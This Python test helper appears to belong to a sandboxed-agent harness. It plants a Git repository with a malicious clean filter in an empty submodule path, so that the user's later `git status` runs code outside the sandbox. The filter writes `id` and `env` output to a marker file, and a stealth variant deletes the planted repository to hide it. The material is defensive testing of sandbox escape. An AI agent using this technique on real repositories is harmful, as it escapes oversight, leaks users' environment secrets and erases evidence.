"""A repository a worker plants inside a submodule path, for the end-to-end tests of the host's
own Git (issue 8 §1): both backends drive the same plant through their sandboxed bash.

The task worktree gets a gitlink (a submodule entry) at `src/app/vendor`, inside the grant's rw
directory, left empty as `git worktree add` leaves an uninitialised submodule. The worker then
runs, in one sandboxed command, `git init` in that empty path, commits a file, and only then
configures a clean filter `x` for every file (so nothing runs inside the sandbox), waits past the
index's timestamp and touches the file. The filter appends `id` and `env` to a marker file outside
every directory the sandbox lets the worker write: if the marker exists after the run, the
filter ran outside the sandbox, which is where the host's own Git runs.

The stealth variant's filter also removes the planted repository once it has run, so a walk for
`.git` entries after the host's `git status` finds nothing.
"""

from __future__ import annotations

import shlex
import subprocess
from pathlib import Path

VENDOR = "src/app/vendor"
FILTER_KEY = "filter.x.clean"


def _git(cwd: Path, env: dict[str, str], *args: str, stdin: str | None = None) -> str:
    proc = subprocess.run(
        ["git", "-c", "user.name=t", "-c", "user.email=t@t", *args],
        cwd=cwd,
        env=env,
        input=stdin,
        capture_output=True,
        text=True,
        check=False,
    )
    if proc.returncode != 0:
        raise AssertionError(f"git {args} failed: {proc.stderr}")
    return proc.stdout.strip()


def add_gitlink(worktree: Path, env: dict[str, str], rel: str = VENDOR) -> str:
    """Commit a submodule entry at `rel` on the task worktree's branch (a `.gitmodules` entry
    and a gitlink to a commit of an empty tree) and leave its directory empty, as
    `git worktree add` leaves an uninitialised submodule. Returns the gitlink's commit."""
    tree = _git(worktree, env, "mktree", stdin="")
    commit = _git(worktree, env, "commit-tree", tree, "-m", "vendored")
    (worktree / ".gitmodules").write_text(
        f'[submodule "vendor"]\n\tpath = {rel}\n\turl = ./vendor.git\n'
    )
    _git(worktree, env, "update-index", "--add", "--cacheinfo", f"160000,{commit},{rel}")
    _git(worktree, env, "add", ".gitmodules")
    _git(worktree, env, "commit", "-q", "-m", "vendor submodule")
    (worktree / rel).mkdir(parents=True, exist_ok=True)
    assert _git(worktree, env, "status", "--porcelain") == ""
    return commit


def filter_command(vendor: Path, marker: Path, *, stealth: bool) -> str:
    """The clean filter's command: record who ran it and with which environment."""
    act = f"{{ id; env; }} >> {marker} 2>/dev/null"
    if stealth:
        act += f" && rm -rf {vendor}/.git {vendor}/.gitattributes {vendor}/f.txt"
    return f"{act}; cat"


def plant_command(vendor: Path, marker: Path, *, stealth: bool = False) -> str:
    """One bash command: a repository in the empty submodule path whose clean filter runs for
    whoever next computes its status. Prints ` rc=<status>`."""
    steps = [
        f"cd {vendor}",
        "git init -q",
        "printf '* filter=x\\n' > .gitattributes",
        "echo hi > f.txt",
        "git add -A",
        "git -c user.name=w -c user.email=w@w commit -qm planted",
        f"git config {FILTER_KEY} {shlex.quote(filter_command(vendor, marker, stealth=stealth))}",
        "sleep 1.1",
        "touch f.txt",
    ]
    # A subshell: Claude Code resets a Bash call's working directory after it.
    return "(" + " && ".join(steps) + '); echo " rc=$?"'


def users_git_status(worktree: Path, env: dict[str, str]) -> str:
    """What the user's next plain `git status` in the worktree prints (their own Git, their
    own environment): it recurses into submodules, as Git does by default."""
    proc = subprocess.run(
        ["git", "status", "--porcelain"],
        cwd=worktree,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )
    return proc.stdout + proc.stderr
